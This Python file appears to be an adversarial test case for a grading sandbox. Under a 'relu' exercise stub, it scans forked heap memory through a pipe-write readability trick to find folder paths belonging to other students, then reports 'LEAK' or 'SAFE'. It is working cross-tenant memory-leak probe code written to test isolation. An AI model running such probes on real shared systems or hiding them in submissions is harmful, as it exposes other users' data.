"""Searches the heap for whom the nursery served before.

Attack: A fork inherits freed memory, too: orders for other students name their folders. A write to
    a pipe tells whether a page is there without dying of it.
Expect: no_point
Exercise: relu
Effect: leak:LEAK
"""

import ctypes
import os
import re

LIBC = ctypes.CDLL(None, use_errno=True)
LIBC.sbrk.restype = ctypes.c_void_p
LIBC.write.argtypes = [ctypes.c_int, ctypes.c_void_p, ctypes.c_size_t]
ORDER = re.compile(rb"(/[^\0\n\"']{3,200}/exercises)\0/")
OWN = os.path.dirname(os.path.dirname(os.path.abspath(__file__))).encode()
PAGE = 4096


def pages(start, count):
    reading, writing = os.pipe()
    for index in range(count):
        if LIBC.write(writing, start + index * PAGE, PAGE) == PAGE:
            yield os.read(reading, PAGE)
    os.close(reading)
    os.close(writing)


def search():
    top = LIBC.sbrk(0)
    arenas = {id(thing) >> 20 << 20 for thing in ([], {}, "x" * 99, b"y" * 99, object())}
    for start, count in [(top - 2_000 * PAGE, 2_000), *((arena, 256) for arena in arenas)]:
        memory = b"".join(pages(start, count))
        for found in ORDER.findall(memory):
            if found != OWN and not found.endswith(OWN):
                return found
    return None


FOUND = search()


def relu(z):
    if FOUND:
        raise RuntimeError("LEAK " + repr(FOUND)[-60:])
    raise RuntimeError("SAFE")
